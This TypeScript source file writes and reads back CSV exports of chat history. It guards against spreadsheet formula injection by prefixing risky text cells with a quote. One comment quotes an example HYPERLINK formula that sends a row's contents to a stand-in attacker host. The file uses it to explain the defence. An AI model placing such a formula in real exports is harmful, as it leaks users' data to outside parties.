import type { ExistingRow, ExportCodec, RowSink } from './exportCodec';
import { existingFileError } from './exportErrors';
import { exportColumns } from './exportRow';
import type { ExportRow } from './exportRow';
import { CsvParser, CsvSyntaxError, csvRecord } from './csvText';
import { readTextChunks } from './fileInput';
import { FileOutput } from './fileOutput';

/** The header every CSV export starts with: the column names in `exportColumns` order. */
export const csvHeader: readonly string[] = exportColumns.map((column) => column.name);

/**
 * Spreadsheet formula injection: a cell starting with `=`, `+`, `-` or `@` (or a tab or CR, which
 * some spreadsheets skip before them) is run as a formula when the file is opened in Excel,
 * LibreOffice or Google Sheets, and thread text, the model's reply and titles are untrusted:
 * `=HYPERLINK("https://evil.example/?"&A1,"click")` would leak the row. So every text cell (string
 * and timestamp columns; never numbers or booleans, where `-3` is a number) that starts with one of
 * those characters, or with `'` itself, gets one `'` in front. The rule is reversible: a reader gets
 * the exact text back by dropping one leading `'` from any text cell that starts with one (a value
 * that began with `'` was prefixed too, so there is no ambiguity). Markdown lists in replies
 * (`- item`) are prefixed as well; that is the price of the rule.
 */
const FORMULA_START = /^[=+\-@\t\r']/;

/** A text cell with the formula guard applied. */
export function guardedText(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/**
 * The cells of one row: null as an empty cell (so null and an empty string read back alike),
 * booleans as `true`/`false`, numbers in JavaScript's shortest round-trip form, text guarded.
 */
export function csvCells(row: ExportRow): string[] {
  return exportColumns.map(({ name, type }) => {
    const value = row[name];
    if (value === null) return '';
    if (typeof value === 'string') return type === 'string' || type === 'timestamp' ? guardedText(value) : value;
    return String(value);
  });
}

/**
 * CSV (RFC 4180): a header row, then one record per row, CRLF line breaks, UTF-8 without a byte
 * order mark. A row is its cells, already guarded; rows read back from a file keep their cells as
 * written, so they are never guarded twice.
 */
export const csvCodec: ExportCodec<string[]> = {
  readExisting: readCsvRows,
  async openSink(file: string): Promise<RowSink<string[]>> {
    const output = await FileOutput.create(file);
    await output.writeText(csvRecord(csvHeader));
    return {
      write: (cells) => output.writeText(csvRecord(cells)),
      finish: () => output.finish(),
      abort: () => output.abort(),
    };
  },
};

async function* readCsvRows(file: string, signal?: AbortSignal): AsyncGenerator<ExistingRow<string[]>> {
  const parser = new CsvParser();
  let header = true;
  let line = 1;
  const check = function* (rows: Iterable<{ line: number; fields: string[] }>): Generator<ExistingRow<string[]>> {
    for (const row of rows) {
      line = row.line;
      if (header) {
        checkHeader(file, row.line, row.fields);
        header = false;
        continue;
      }
      if (row.fields.length !== csvHeader.length) {
        throw existingFileError(file, `line ${row.line}`, `has ${row.fields.length} fields where the header has ${csvHeader.length}`);
      }
      const id = row.fields[0]!;
      yield { id: id === '' ? null : id, row: row.fields, where: `line ${row.line}` };
    }
  };
  try {
    for await (const chunk of readTextChunks(file, () => `line ${line}`, signal)) yield* check(parser.push(chunk));
    yield* check(parser.end());
  } catch (error) {
    if (error instanceof CsvSyntaxError) throw existingFileError(file, `line ${error.line}`, `is not valid CSV: ${error.message}`, error);
    throw error;
  }
}

function checkHeader(file: string, line: number, fields: readonly string[]): void {
  const differs = fields.length !== csvHeader.length || fields.some((name, i) => name !== csvHeader[i]);
  if (!differs) return;
  const at = csvHeader.findIndex((name, i) => fields[i] !== name);
  const detail =
    at === -1
      ? `it has ${fields.length} columns where this export has ${csvHeader.length}`
      : `column ${at + 1} is ${JSON.stringify(fields[at] ?? '')} where this export has ${JSON.stringify(csvHeader[at])}`;
  throw existingFileError(file, `line ${line}`, `the header is not the header of a Threadwise history export (${detail})`);
}
